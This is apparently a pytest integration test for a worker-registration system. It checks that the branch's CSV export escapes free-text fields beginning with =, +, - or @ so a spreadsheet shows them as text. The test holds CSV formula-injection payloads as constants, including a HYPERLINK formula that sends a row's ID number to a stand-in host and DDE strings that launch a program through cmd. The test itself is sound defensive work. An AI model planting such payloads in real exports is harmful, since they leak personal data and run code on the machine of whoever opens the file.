"""A spreadsheet never runs what a worker's free text says: the street, birth place, work place
or e-mail address of a registration may begin with `=`, `+`, `-` or `@` (the domain rules let
free text hold them), and the branch's export CSV, opened by a clerk in a spreadsheet, would
run it as a formula (`=HYPERLINK(...)` sending the row's NIK away, `=cmd|...` starting a
program). The CSV cell then begins with `'`, so it is shown as text; the JSON keeps the value
as it is, and a phone number (`+62…`), a plain signed number, is left alone."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from bpu_enroll.branch.admin.cli import main as branch_main
from tests.integration.helpers import Branch, Laptop, ServerThread, registration

LEAK = '=HYPERLINK("http://x.example/?"&D2,"Klik")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
MAIL = "=1+2@pos.example"


def test_a_text_that_reads_as_a_formula_is_text_in_the_csv(
    branch: Branch,
    server: ServerThread,
    laptop_factory: Callable[[], Laptop],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    field = laptop_factory()
    address = {**registration(61)["address"], "street": LEAK}
    field.register(61, address=address, birth_place=DDE, work_location=SUM, email=MAIL)
    field.register(62, work_location=MINUS)
    assert field.sync(server.url).completed
    out = tmp_path / "export"

    code = branch_main(["--db", branch.db_url, "export", "--out", str(out), "--json"])
    manifest = json.loads(capsys.readouterr().out)
    assert code == 0, manifest
    [csv_entry, json_entry] = manifest["files"]
    with (out / csv_entry["name"]).open(encoding="utf-8", newline="") as handle:
        table = {r["work_location"]: r for r in csv.DictReader(handle)}
    rows = {
        r["work_location"]: r for r in json.loads((out / json_entry["name"]).read_bytes())["rows"]
    }

    assert set(rows) == {SUM, MINUS}  # the JSON holds what the officer typed
    assert (rows[SUM]["street"], rows[SUM]["birth_place"], rows[SUM]["email"]) == (LEAK, DDE, MAIL)
    assert set(table) == {"'" + SUM, "'" + MINUS}
    first = table["'" + SUM]
    assert (first["street"], first["birth_place"], first["email"]) == (
        "'" + LEAK, "'" + DDE, "'" + MAIL,
    )  # fmt: skip
    assert first["phone"] == rows[SUM]["phone"] and first["phone"].startswith("+62")
    assert first["full_name"] == rows[SUM]["full_name"] == "BUDI SANTOSO"
    for row in table.values():
        assert not any(str(v).startswith(("=", "@")) for v in row.values()), row
